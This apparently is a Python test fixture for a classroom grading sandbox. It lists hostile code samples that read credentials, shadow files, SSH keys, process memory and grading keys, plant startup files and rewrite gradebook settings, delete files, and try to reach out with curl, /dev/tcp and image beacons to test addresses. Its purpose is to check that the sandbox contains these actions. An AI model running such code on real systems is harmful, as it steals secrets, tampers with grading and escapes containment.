"""Reading what is not theirs, writing where they may not, and sending anything out."""

# ruff: noqa: E501  hostile code reads better unbroken

from __future__ import annotations

from tests.attacks.hostile.attack import code

READ, WRITE, SEND = "reading keys, peers, environment", "writing gradebook or configuration", "exfiltration"
LEAK_WORD = '"LE" + "AK"'
_WALK = f"""
import os
links = None
def search(root, names, words):
    for folder, folders, files in os.walk(root):
        if folder.startswith(("/proc", "/sys", "/dev", "/usr", "/lib")) or folder.endswith("site-packages"):
            folders[:] = []; continue  # nbgrader's own files hold the words
        for name in files:
            path = os.path.join(folder, name)
            if any(one in name for one in names): print({LEAK_WORD}, path)
            elif os.path.isfile(path) and os.path.getsize(path) < 10**6 and name.endswith((".json", ".ipynb", ".py", ".toml", ".db")):
                try: text = open(path, errors="replace").read()
                except OSError: continue
                if any(one in text for one in words): print({LEAK_WORD}, path)
"""
READING = (
    code(
        READ,
        "searches the disk for keys and solutions",
        _WALK + 'search("/", ("workspace.toml", "gradebook.db", "nbgrader_config.py"),'
        ' ("model answer " + "nobody", "BEGIN " + "HIDDEN", "BEGIN " + "SOLUTION", "peer\'s " + "own words"))',
    ),
    code(
        READ,
        "climbs out of the day's folder",
        _WALK + f"for up in ('..', '../..', '../../..', '../../../..', '../../../../..'):\n"
        f"    for name in os.listdir(up):\n        if name in ('sealed', 'submitted', 'source', 'gradebook.db'):"
        f" print({LEAK_WORD}, up, name)",
    ),
    code(
        READ,
        "imports the judge and the truth",
        "links = None\nfor name in ('grading.judge', 'grading.keys.store',"
        " 'synthetic_data.truth', 'classroom.workspace', 'curriculum'):\n    try:\n        __import__(name)\n"
        f"        print({LEAK_WORD}, name)\n    except ImportError: pass",
    ),
    code(
        READ,
        "other processes: environment, command lines, memory",
        "import os\nlinks = None\nfor entry in os.listdir('/proc'):\n    if not entry.isdigit() or int(entry) == os.getpid():"
        " continue\n    for part in ('environ', 'cmdline', 'maps', 'mem', 'fd/3', 'root/etc/shadow'):\n"
        "        try: text = open(f'/proc/{entry}/{part}', 'rb').read(100000)\n        except OSError: continue\n"
        f"        if b'submitted' in text or b'sealed' in text or b'TOKEN' in text: print({LEAK_WORD}, entry, part)",
    ),
    code(
        READ,
        "the environment",
        "import os\nlinks = None\nfor name, value in os.environ.items():\n"
        "    if 'SECRET' in name or 'TOKEN' in name or 'sealed' in value or 'submitted' in value:"
        f" print({LEAK_WORD}, name)",
    ),
    code(
        READ,
        "the machine's own secrets",
        "import glob\nlinks = None\n"
        "for path in ['/etc/shadow', '/etc/passwd', *glob.glob('/root/.*/*'), *glob.glob('/home/*/.ssh/*')]:\n"
        f"    try:\n        if len(open(path, 'rb').read(10)): print({LEAK_WORD}, path)\n    except OSError: pass",
    ),
    code(
        READ,
        "traces its runner",
        "import ctypes\nlinks = None\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        f"if libc.ptrace(16, 2, 0, 0) == 0: print({LEAK_WORD})\n"
        "class Part(ctypes.Structure): _fields_ = [('base', ctypes.c_void_p), ('size', ctypes.c_size_t)]\n"
        "got = ctypes.create_string_buffer(8); here = Part(ctypes.addressof(got), 8); there = Part(0x400000, 8)\n"
        f"if libc.process_vm_readv(2, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0: print({LEAK_WORD})",
    ),
    code(
        READ,
        "a name server, a shell and a user of its own",
        "import ctypes, subprocess\nlinks = None\n"
        f"libc = ctypes.CDLL(None)\nif libc.unshare(0x10000000) == 0: print({LEAK_WORD}, 'namespace')\n"
        "for words in (['mount', '-t', 'tmpfs', 'x', '/mnt'], ['su', '-c', 'id'], ['sudo', '-n', 'id']):\n"
        "    try:\n        if subprocess.run(words, capture_output=True, timeout=2).returncode == 0:"
        f" print({LEAK_WORD}, words[0])\n    except (OSError, subprocess.SubprocessError): pass",
    ),
)
WRITING = (
    code(
        WRITE,
        "writes wherever the disk lets it",
        "import os\nlinks = None\nfor folder, folders, files in os.walk('/'):\n"
        "    if folder.startswith(('/proc', '/sys', '/home', '/tmp', '/dev')): folders[:] = []; continue\n"
        "    for name in files:\n        if name in ('gradebook.db', 'nbgrader_config.py', 'workspace.toml', 'judge.py'):\n"
        f"            try:\n                open(os.path.join(folder, name), 'ab').close(); print({LEAK_WORD}, name)\n"
        "            except OSError: pass\n"
        f"    try: open(os.path.join(folder, '.hostile'), 'w').close(); print({LEAK_WORD}, folder)\n    except OSError: pass",
    ),
    code(
        WRITE,
        "settings for the next to read",
        "import pathlib, site\nlinks = None\n"
        "for place in ('.ipython/profile_default/startup/00.py', '.jupyter/nbgrader_config.py', '.config/matplotlib/x',"
        " '.local/lib/python3.11/site-packages/sitecustomize.py'):\n"
        "    path = pathlib.Path.home() / place\n    path.parent.mkdir(parents=True, exist_ok=True)\n"
        "    path.write_text('raise SystemExit')\n"
        "import sqlite3\nsqlite3.connect('gradebook.db').execute('create table grade (x)')\n"
        "open('nbgrader_config.py', 'w').write('c = get_config()\\nc.Autograde.force = True')",
    ),
    code(
        WRITE,
        "its own notebook and the released sheet",
        "import glob, os\nlinks = None\n"
        "for path in glob.glob('*'):\n    try: os.remove(path)\n    except OSError: pass\n"
        "open('1_links.ipynb', 'w').write('{}')\nopen('exercises.json', 'w').write('{\"exercises\": {}}')",
    ),
)
_NET = f"""
import socket
links = None
for family, place in ((2, ("127.0.0.1", 80)), (2, ("127.0.0.1", 22)), (2, ("192.0.2.1", 53)), (10, ("::1", 80)),
                      (1, "\\0abstract"), (1, "/var/run/docker.sock"), (1, "/run/dbus/system_bus_socket")):
    for kind in (1, 2):
        try:
            one = socket.socket(family, kind); one.settimeout(1); one.connect(place)
            if kind == 1 or one.send(b"x") and family == 1: print({LEAK_WORD}, place)
        except OSError: pass
"""
SENDING = (
    code(SEND, "TCP, UDP and local sockets", _NET),
    code(
        SEND,
        "names",
        "import socket\nlinks = None\ntry:\n    socket.getaddrinfo('key-abc.example.org', 80)\n"
        f"    print({LEAK_WORD})\nexcept OSError: pass",
    ),
    code(
        SEND,
        "programs that fetch",
        "import subprocess, urllib.request\nlinks = None\n"
        "for words in (['curl', '-m2', 'http://192.0.2.1'], ['ping', '-c1', '-W1', '192.0.2.1'],"
        " ['bash', '-c', 'echo x > /dev/tcp/127.0.0.1/80']):\n    try:\n"
        f"        if subprocess.run(words, capture_output=True, timeout=3).returncode == 0: print({LEAK_WORD}, words[0])\n"
        "    except (OSError, subprocess.SubprocessError): pass\n"
        f"try:\n    urllib.request.urlopen('http://192.0.2.1', timeout=2); print({LEAK_WORD})\nexcept OSError: pass",
    ),
    code(
        SEND,
        "pictures and links on the feedback page",
        "from IPython.display import HTML, display\nlinks = None\n"
        'display(HTML(\'<img src="http://192.0.2.1/?grade"><link rel=stylesheet href="//192.0.2.1/x">\'))',
    ),
)
REACHING = (*READING, *WRITING, *SENDING)
